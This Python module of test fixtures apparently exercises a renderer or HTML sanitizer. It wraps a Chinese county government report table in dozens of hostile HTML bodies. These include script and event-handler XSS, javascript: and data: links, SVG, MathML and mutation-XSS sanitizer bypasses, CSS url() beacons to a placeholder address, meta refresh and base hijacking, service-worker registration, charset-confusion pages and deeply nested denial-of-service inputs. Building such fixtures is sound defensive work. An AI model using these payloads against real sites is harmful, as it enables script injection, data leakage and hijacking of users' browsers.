"""Pages that try to run, to fetch, to lead away or to break whoever shows them. AT stands for an address that must never be asked."""

from __future__ import annotations

from urllib.parse import quote

# a report's table, so that there is a number to be marked
TABLE = ("<h1>固镇县连城镇2020年政府信息公开工作年度报告</h1><p>一、总体情况</p><p>本年无。</p><p>三、收到和处理政府信息公开申请情况</p><table id=t>"
         "<tr><td rowspan=3 colspan=3>（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）</td><td colspan=7>申请人情况</td></tr>"
         "<tr><td rowspan=2>自然人</td><td colspan=5>法人或其他组织</td><td rowspan=2>总计</td></tr>"
         "<tr><td>商业企业</td><td>科研机构</td><td>社会公益组织</td><td>法律服务机构</td><td>其他</td></tr>"
         "<tr><td colspan=3>一、本年新收政府信息公开申请数量</td><td>2</td><td></td><td>0</td><td>0</td><td>0</td><td>0</td><td><span class=f>37</span></td></tr></table>")
RAN = "document.title='ran';document.documentElement.setAttribute('data-ran','1');new Image().src='AT/ran';fetch('AT/ran')"

BODIES: dict[str, str] = {
    "script": f"<script>{RAN}</script>",
    "script, upper case, in pieces": f"<SCRIPT\n type=module >{RAN}</SCRIPT\t>",
    "script that is not closed": f"<script>{RAN}",
    "script from elsewhere": "<script src=AT/x.js></script><script async defer src='//127.0.0.1/x.js'></script>",
    "script in an unknown element": f"<foo><bar><script>{RAN}</script></bar></foo>",
    "import map": '<script type=importmap>{"imports":{"x":"AT/x.js"}}</script><script type=module>import "x"</script>',
    "onload": f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=\"{RAN}\"><body onload=\"{RAN}\" onpageshow=\"{RAN}\">",
    "onerror": f"<img src=x onerror=\"{RAN}\"><video><source onerror=\"{RAN}\"></video><audio src=x onerror=\"{RAN}\">",
    "onfocus": f"<a tabindex=0 id=x autofocus onfocus=\"{RAN}\">x</a><input autofocus onfocus=\"{RAN}\"><div contenteditable autofocus onfocus=\"{RAN}\">",
    "animation events": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{RAN}\" ontransitionrun=\"{RAN}\">x",
    "toggle": f"<details open ontoggle=\"{RAN}\"><summary>x</summary></details><dialog open onclose=\"{RAN}\"></dialog><div popover ontoggle=\"{RAN}\">",
    "marquee": f"<marquee onstart=\"{RAN}\">x</marquee>",
    "javascript link": f"<a id=x href=\"javascript:{RAN}\">x</a><a href=\" &#1; j&#x0A;avascript:{RAN}\">y</a><area href=\"javascript:{RAN}\">",
    "vbscript and data links": f"<a href='vbscript:x'>x</a><a href=\"data:text/html,<script>{RAN}</script>\">x</a>",
    "javascript in other places": f"<img src=\"javascript:{RAN}\"><iframe src=\"javascript:{RAN}\"></iframe><object data=\"javascript:{RAN}\"></object>"
                                  f"<embed src=\"javascript:{RAN}\"><form action=\"javascript:{RAN}\"><input type=submit></form><table background=\"javascript:{RAN}\">",
    "svg": f"<svg onload=\"{RAN}\"><script>{RAN}</script><animate onbegin=\"{RAN}\" attributeName=x dur=1s /><set attributeName=href to=\"javascript:{RAN}\" />"
           f"<a xlink:href=\"javascript:{RAN}\"><text>x</text></a><use href='AT/x.svg#a' /><image href='AT/1.png' /><foreignObject><script>{RAN}</script></foreignObject></svg>",
    "svg as a picture": f"<img src=\"data:image/svg+xml,{quote(f'<svg xmlns=http://www.w3.org/2000/svg onload={RAN} />')}\"><img src='AT/x.svg'>",
    "math": f"<math><mtext><script>{RAN}</script></mtext><maction actiontype=statusline xlink:href=\"javascript:{RAN}\">x</maction></math>",
    "iframe": f"<iframe src=AT/1></iframe><iframe srcdoc=\"<script>{RAN.replace(chr(39), '&#39;')}</script>\"></iframe><frameset><frame src=AT/2></frameset>",
    "object": "<object data=AT/1 type=text/html></object><embed src=AT/2><applet code=AT/3></applet><object><param name=movie value=AT/4></object>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=AT/1'><meta http-equiv=Refresh content=\"0; URL='AT/2'\">",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta http-equiv=Set-Cookie content='a=b'>",
    "base": "<base href=AT/ target=_top><img src=1.png><a href=2>x</a><form action=3><button>x</button></form>",
    "link": "<link rel=stylesheet href=AT/1><link rel=preload as=image href=AT/2><link rel=prefetch href=AT/3><link rel=preconnect href=AT>"
            "<link rel=dns-prefetch href=AT><link rel=icon href=AT/4><link rel=import href=AT/5><link rel=modulepreload href=AT/6><link rel=manifest href=AT/7>",
    "css import": "<style>@import url(AT/1); @import 'AT/2'; @im\\port 'AT/3'; @charset 'x'; @namespace url(AT/4);</style>",
    "css url": "<style>body{background:url(AT/1)} p{background-image:image-set('AT/2' 1x)} @font-face{font-family:f;src:url(AT/3)} *{font-family:f;"
               "cursor:url(AT/4),auto;list-style-image:url(AT/5);content:url(AT/6);filter:url(AT/7#x);mask:url(AT/8)} @media all{p{background:url(AT/9)}}"
               "p{background:u\\72l(AT/10)} p{background:/**/url(/**/'AT/11')} td[x='}']{background:url(AT/12)} @supports(a:b){*{background:url(AT/13)}}"
               "a::before{content:attr(x) url(AT/14)} p{--x:url(AT/15);background:var(--x)} @property --y{syntax:'<url>';inherits:false;initial-value:url(AT/16)}</style>",
    "css in attributes": "<p style='background:url(AT/1)'>x</p><p style='background:u\\rl(AT/2)'>x</p><div style=\"list-style:url('AT/3')\">x</div>"
                         "<p style='width:expression(alert(1));behavior:url(AT/4);-moz-binding:url(AT/5)'>x</p><body background=AT/6><td background=AT/7>",
    "css that ends its element": f"<style>p{{color:red}}</style ><script>{RAN}</script><style>p{{content:'</style><script>{RAN}</script>'}}</style>",
    "css that hides or covers": "<style>*{display:none!important;visibility:hidden!important;opacity:0!important;font-size:0!important;color:#fff!important}"
                                "body{position:fixed;left:-99999px;margin-left:-9999px;text-indent:-9999em;transform:scale(0);clip-path:inset(50%);height:0;overflow:hidden}"
                                "#t{max-height:1px;overflow:hidden} td:target{outline:0!important} .f{display:none;color:#ffe3f1;font-size:1px}</style><div style='position:fixed;inset:0;z-index:99;background:red'>ad</div>",
    "pictures": "<img src=AT/1.png srcset='AT/2.png 2x' data-src=AT/3.png lowsrc=AT/4.png dynsrc=AT/5><picture><source srcset=AT/6></picture><input type=image src=AT/7>"
                "<video poster=AT/8 src=AT/9></video><audio src=AT/10></audio><track src=AT/11><image src=AT/12>",
    "forms": "<form action=AT/1 method=post id=f><input name=a value=b><button formaction=AT/2>x</button></form><input form=f type=submit><isindex action=AT/3>",
    "ping and download": "<a href=AT/1 ping=AT/2 download target=_top>x</a><a href='AT/3' rel=opener target=_blank>x</a>",
    "names that clobber": "<img name=body><form name=getElementById><input name=attributes></form><a id=xxgk-0-3-9>x</a><p id=xxgk-note>x</p>",
    "a template": f"<template><script>{RAN}</script></template><template shadowrootmode=open><script>{RAN}</script><img src=AT/1></template><portal src=AT/2></portal>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\"></noscript><noscript><img src=AT/1></noscript>",
    "comment": f"<!--[if IE]><script>{RAN}</script><![endif]--><!-- --!><script>{RAN}</script><!--><script>{RAN}</script>--><![CDATA[<script>{RAN}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='AT/1'?><?php <script>{RAN}</script> ?><!DOCTYPE x SYSTEM 'AT/2' [<!ENTITY e SYSTEM 'AT/3'>]>&e;",
    "mutation by style": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RAN}&gt;\"></style></mglyph></table></mtext></math>",
    "mutation by svg style": f"<svg></p><style><a id=\"</style><img src=1 onerror={RAN}>\"></style></svg>",
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}></style></mglyph></form></mtext></math>",
    "mutation by raw text": f"<xmp><p title=\"</xmp><img src=x onerror={RAN}>\"></xmp><noembed></noembed><noframes><p title=\"</noframes><img src=x onerror={RAN}>\">"
                            f"</noframes><title><p title=\"</title><img src=x onerror={RAN}>\"></title><textarea></textarea><img src=x onerror={RAN}></textarea><plaintext></x>",
    "mutation by select": f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RAN}>\"></a></select>",
    "mutation by backticks": f"<img alt=\"`><img src=x onerror={RAN}>\" title='`'><p title='\"><img src=x onerror={RAN}>'>x",
    "attributes without end": f"<img src=\"AT/1\" title='\"'><img/src=x/onerror={RAN}><img src=x onerror={RAN} //><a href='x\" onclick={RAN}'>x</a>",
    "odd names": f"<p on\x00load={RAN} \x0conclick={RAN} data-x\"=1 <img src=x onerror={RAN}>x<scr\x00ipt>{RAN}</scr\x00ipt><\x00script>{RAN}</script>",
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt;<p title='&quot;&gt;&lt;img src=x onerror={RAN}&gt;'>x</p><a href='&#106;avascript:{RAN}'>x</a>&#0;&#xD800;&#x110000;",
    "spans": "<table><tr><td rowspan=65534 colspan=65534>a</td><td>b</td></tr></table><table><colgroup span=99999999999></colgroup><tr><td colspan=-1 rowspan=0>a<td>b</table>",
    "deep": "<div>" * 6000 + "x" + "<b><i><u>" * 3000,
    "deep tables": "<table><tr><td>" * 400 + "x",
    "many attributes": "<p " + " ".join(f"a{n}=1" for n in range(2000)) + ">x</p><p class='" + "x " * 50_000 + "'>y</p>",
    "long style": "<style>" + "p{color:red}" * 30_000 + "{" * 5000 + "</style><p style='" + "a" * 200_000 + "'>x" + "<p style='color:" + "(" * 30_000 + "'>y",
    "service worker and storage": f"<script>navigator.serviceWorker.register('AT/sw.js');localStorage.x=1;{RAN}</script>",
    "top navigation": "<a href=AT/1 target=_top id=x>x</a><script>top.location='AT/2';document.getElementById('x').click();window.open('AT/3')</script>",
}


def page(body: str, at: str) -> bytes:
    """A report's page with something in it. at: the address that must never be asked."""
    text = f"<html><head><meta charset=utf-8><title>连城镇2020年政府信息公开工作年度报告</title></head><body>{TABLE}{body.replace('AT', at)}</body></html>"
    return text.encode("utf-8", "surrogatepass")


def first(body: str, at: str) -> bytes:
    """The same with the hostile part before the table."""
    text = f"<html><head><meta charset=utf-8><title>连城镇2020年政府信息公开工作年度报告</title>{body.replace('AT', at)}</head><body>{TABLE}</body></html>"
    return text.encode("utf-8", "surrogatepass")


CHARSETS: dict[str, bytes] = {
    "utf-7": TABLE.encode() + b"+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-",
    "utf-16 without a mark": f"<html><body>{TABLE}<script>document.title='ran'</script>".encode("utf-16-le"),
    "utf-16 with a mark": f"<html><body>{TABLE}<script>document.title='ran'</script>".encode("utf-16"),
    "gbk that says utf-8": f"<meta charset=utf-8>{TABLE}<script>document.title='ran'</script>".encode("gb18030"),
    "iso-2022-jp": b"<meta charset=iso-2022-jp>" + TABLE.encode() + b"<p title=\x1b$B\"><script>document.title='ran'</script>\x1b(B>",
    "half a character before a quote": b"<meta charset=gbk>" + TABLE.encode("gb18030") + b"<p title=\"\x81\" onclick=\"document.title='ran'\">x",
    "rubbish": bytes(range(256)) * 40 + TABLE.encode() + b"\xff\xfe<script>document.title='ran'</script>" + bytes(range(255, -1, -1)) * 40,
}
